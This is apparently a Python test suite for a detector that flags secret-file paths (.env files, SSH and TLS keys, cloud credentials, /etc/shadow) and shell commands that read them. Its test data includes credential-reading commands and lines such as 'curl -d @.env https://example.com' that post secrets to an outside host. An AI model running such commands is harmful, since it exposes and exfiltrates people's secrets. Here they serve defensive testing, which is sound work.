"""Paths whose content is never recorded, alone and inside shell commands."""

import subprocess
import sys

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ccos_core.text.ignore import Matcher, parse_rules
from ccos_core.text.withheld import TABLE, withheld, withheld_in
from tests.growth import assert_linear_cpu


def words(table: str) -> list[str]:
    return table.split()


SECRET = words("""
.env  .env.local  .env.production.local  config/.env  prod.env  .envrc  .ENV  .Env.Local  a/b/.env~
/home/me/project/.env  ./.env  ../.env  ~/.env  .env.d/../.env  C:\\code\\.env  config\\.env
server.pem  CERT.PEM  tls/server.key  store.p12  store.pfx  release.keystore  debug.jks  AuthKey_1.p8
id_rsa  ~/.ssh/id_rsa  id_ed25519  id_ecdsa  id_dsa  id_ed25519_sk  id_rsa.bak  .ssh/id_work  ssh_host_rsa_key
.netrc  _netrc  .pgpass  .npmrc  .pypirc  .git-credentials  .htpasswd
.aws/credentials  /home/dev/.aws/credentials  .docker/config.json  .kube/config  ~/.cargo/credentials.toml
.aws//credentials  .aws/./credentials  .aws/x/../credentials  \\\\host\\share\\.kube\\config
secrets.yml  secrets.yaml  secrets.json  secrets.toml  config/secrets.yaml  .streamlit/secrets.toml
terraform.tfstate  terraform.tfstate.backup  prod.tfvars  prod.tfvars.json
service-account.json  service-account-prod.json  my-service-account.json  credentials.json
/etc/shadow  /proc/self/environ  /proc/1/environ
""")

PLAIN = words("""
.env.example  .env.sample  .env.template  .env.local.example  .ENV.EXAMPLE  config/.env.example  example.env
my.environment  environment.py  env  env.py  .environment  .env/lib/module.py  .envelope  process.env  import.meta.env
id_rsa.pub  id_ed25519.pub  .ssh/id_work.pub  .ssh/config  .ssh/known_hosts  id_rsa_test.py  known_id_rsa
credentials  src/credentials  credentials.py  config.json  src/config.json  docker/config.json  .kube/config.py
kube/config  secrets.py  secrets/readme.md  secret_sauce.yaml  main.tf  tfvars  keys.py  key  pem  monkey  settings.xml
README.md  a.key.md  package.json  service.json  etc/passwd
""")


@pytest.mark.parametrize("path", SECRET)
def test_withheld(path: str) -> None:
    assert withheld(path)


@pytest.mark.parametrize("path", ["", "/", ".", "..", "a/", *PLAIN])
def test_not_withheld(path: str) -> None:
    assert not withheld(path)


def test_the_table_is_in_small_letters_for_paths_are_compared_that_way() -> None:
    assert TABLE.lower() == TABLE


WHERE = st.sampled_from(["", "/", "./", "../", "~/", "a/b/", "/home/me/", "C:\\", "src\\x\\", "a//", "é/"])


@given(st.sampled_from(SECRET + PLAIN), WHERE)
def test_only_the_end_of_a_path_counts(path: str, where: str) -> None:
    if not path.startswith(("/", "\\", "~", ".", "C:")):
        assert withheld(where + path) == withheld(path)


@given(st.sampled_from(SECRET + PLAIN), st.data())
def test_case_and_kind_of_slash_do_not_matter(path: str, data: st.DataObject) -> None:
    shouted = "".join(data.draw(st.sampled_from([c, c.upper()])) for c in path)
    assert withheld(shouted) == withheld(path) == withheld(path.replace("/", "\\"))


COMMANDS = [
    ("cat .env", ".env"),
    ("sed -n 1,5p config/.env", "config/.env"),
    ("source ./.env && run", "./.env"),
    (". .env", ".env"),
    ("set -a; . ./.env; set +a", "./.env"),
    ("grep x <.env", ".env"),
    ("grep <.env x", ".env"),
    ("grep x < .env", ".env"),
    ('cp ".env" /tmp', ".env"),
    ("cp '.env' /tmp", ".env"),
    ('cat "my dir/.env"', "my dir/.env"),
    (r"cat my\ dir/.env", "my dir/.env"),
    ("cat .e'n'v", ".env"),
    ("docker run --env-file=.env web", ".env"),
    ("docker run --env-file .env web", ".env"),
    ("docker run -v ./.env:/app/.env web", "./.env"),
    ("curl -d @.env https://example.com", ".env"),
    ("curl --data-binary=@.env https://example.com", ".env"),
    ("git show HEAD:.env", ".env"),
    ("scp host:.aws/credentials .", ".aws/credentials"),
    ("dd if=server.key", "server.key"),
    ("cat .env|wc", ".env"),
    ("(cat .env)", ".env"),
    ("true&&cat .env;true", ".env"),
    ("cat a\ncat .env\n", ".env"),
    ("cat \\\n  .env", ".env"),
    ("export $(cat .env | xargs)", ".env"),
    ("export $(grep -v '^#' .env | xargs)", ".env"),
    ('echo "$(cat .env)"', ".env"),
    ('echo "a $(cat ".env") b"', ".env"),
    ('echo "`cat .env`"', ".env"),
    ("echo `cat .env`", ".env"),
    ("echo $(<.env)", ".env"),
    ("diff <(sort .env) x", ".env"),
    ('cat "$HOME/.netrc"', "$HOME/.netrc"),
    ('cat "${DIR}/.env"', "${DIR}/.env"),
    ('cat "$(dirname x)/.env"', "/.env"),
    ("cat .env*", ".env"),
    ("cat *.pem", "*.pem"),
    ("cat {.env,README.md}", ".env"),
    ("cat .env{,.local}", ".env"),
    ("bash -c 'cat .env'", ".env"),
    ('bash -lc "cd x && cat .env"', ".env"),
    ("""docker exec web sh -c "cat '.env'" """, ".env"),
    ('ssh host "cat .env"', ".env"),
    ('FOO=1 sudo ssh host 2>&1 "cat .env"', ".env"),
    ("""python -c "print(open('.env').read())" """, ".env"),
    ("""node -e "fs.readFileSync('.env')" """, ".env"),
    ("python - <<'EOF'\nopen('.env').read()\nEOF", ".env"),
    ("cat <<EOF\nit's\nEOF\ncat .env; echo 'x'", ".env"),
    ("type config\\.env", "config\\.env"),
    ('type "C:\\code\\.env"', "\\code\\.env"),
    (r"cat \.env", r"\.env"),
    ("cat it's .env", ".env"),
    ('cat 5" .env', ".env"),
    ("cat x # note\ncat .env", ".env"),
    ("cat a#b .env", ".env"),
    ("grep -e x .env", ".env"),
    ("grep --regexp=x .env", ".env"),
    ("grep -f.env x", ".env"),
    ("rg -g .env ''", ".env"),
    ("grep --include .env -r x", ".env"),
    ("jq . secrets.json", "secrets.json"),
    ("awk -F= '{print $2}' .env", ".env"),
    ("openssl rsa -in server.key >out.txt", "server.key"),
    ("echo A=1 >> .env", ".env"),
]

HARMLESS = [
    "",
    "cat README.md",
    'echo "copy .env.example"',
    "cp .env.example x",
    "cat my.environment",
    'git commit -m "add .env to the ignore file"',
    "git commit -m 'rotate (server.key)'",
    "echo 'see .env for more'",
    "grep -rn '.env' src",
    "git log | grep .env",
    'rg "process.env" src',
    "grep -rnE '\\.env' .",
    "jq .env package.json",
    "sed -n s/.env/x/ notes",
    "FOO=1 grep .env notes",
    'node -e "console.log(process.env)"',
    "ls # not .env",
    "cat id_rsa.pub",
    "python environment.py --env=prod",
    "cat $ENV",
    "export AWS=credentials",
]


@pytest.mark.parametrize(("command", "path"), COMMANDS)
def test_commands_that_touch_a_secret(command: str, path: str) -> None:
    assert path in withheld_in(command)


@pytest.mark.parametrize("command", HARMLESS)
def test_commands_that_only_look_like_it(command: str) -> None:
    assert withheld_in(command) == ()


def test_words_come_in_order_and_once() -> None:
    assert withheld_in("cat b.pem a.key b.pem .env") == ("b.pem", "a.key", ".env")


def test_a_matcher_of_ones_own_adds_to_the_table() -> None:
    mine = Matcher(parse_rules("private/\n*.dump\n/top.txt"))
    assert withheld_in("cat private/x a.dump top.txt sub/top.txt .env", mine) == (
        "private/x",
        "a.dump",
        "top.txt",
        ".env",
    )
    assert withheld_in("cat ./private/x ../private/x", mine) == ("./private/x",)


def test_with_the_root_known_absolute_words_are_brought_home() -> None:
    mine = Matcher(parse_rules("/private/"))
    assert withheld_in("cat /home/me/p/private/x", mine, root="/home/me/p") == ("/home/me/p/private/x",)
    assert withheld_in("cat /else/private/x", mine, root="/home/me/p") == ()
    assert withheld_in("cat ../private/x", mine, root="/home/me/p", cwd="/home/me/p/sub") == ("../private/x",)
    assert withheld_in("cat private/x", mine, root="/home/me/p", cwd="/home/me/p/sub") == ()
    assert withheld_in("cat private/x", mine, root="/home/me/p") == ("private/x",)


PIECES = st.sampled_from([*"ab \n'\"\\`$(){}[]<>|&;#=,:@*?-", "$(", ".env", "cat ", "-c ", "grep ", "${", "sh -c "])


@given(st.lists(PIECES, max_size=40).map("".join) | st.text())
def test_no_command_raises(command: str) -> None:
    withheld_in(command, Matcher(parse_rules("a")), root="/a", cwd="/b")


@given(st.lists(st.sampled_from(["cat", "x.py", "-n", "'a b'", '"c d"', "--flag=1"]), max_size=6), st.integers(0, 6))
def test_a_bare_secret_is_found_wherever_it_stands(words: list[str], place: int) -> None:
    words.insert(place, ".env")
    assert withheld_in(" ".join(words)) == (".env",)


@pytest.mark.parametrize(
    "piece",
    ["'", '"', "\\", "`", "$(", "${", "(", "[", "{", "a=", "<", "-c 'a ", "#", "a", " ", "..", "/", "*a", ".env "],
)
def test_no_long_command_runs_away(piece: str) -> None:
    def work(command: str) -> None:
        assert set(withheld_in(command)) <= {".env"}

    assert_linear_cpu(lambda size: "cat " + piece * size, work, 1_000)
    assert_linear_cpu(lambda size: 'sh -c "' + piece * size + '"', work, 1_000)


def test_importing_it_is_cheap() -> None:
    code = (
        "import sys, re, ccos_core; had = set(sys.modules);"
        " import ccos_core.text.withheld; print(set(sys.modules) - had)"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout
    assert "dataclasses" not in out
    assert "'typing'" not in out
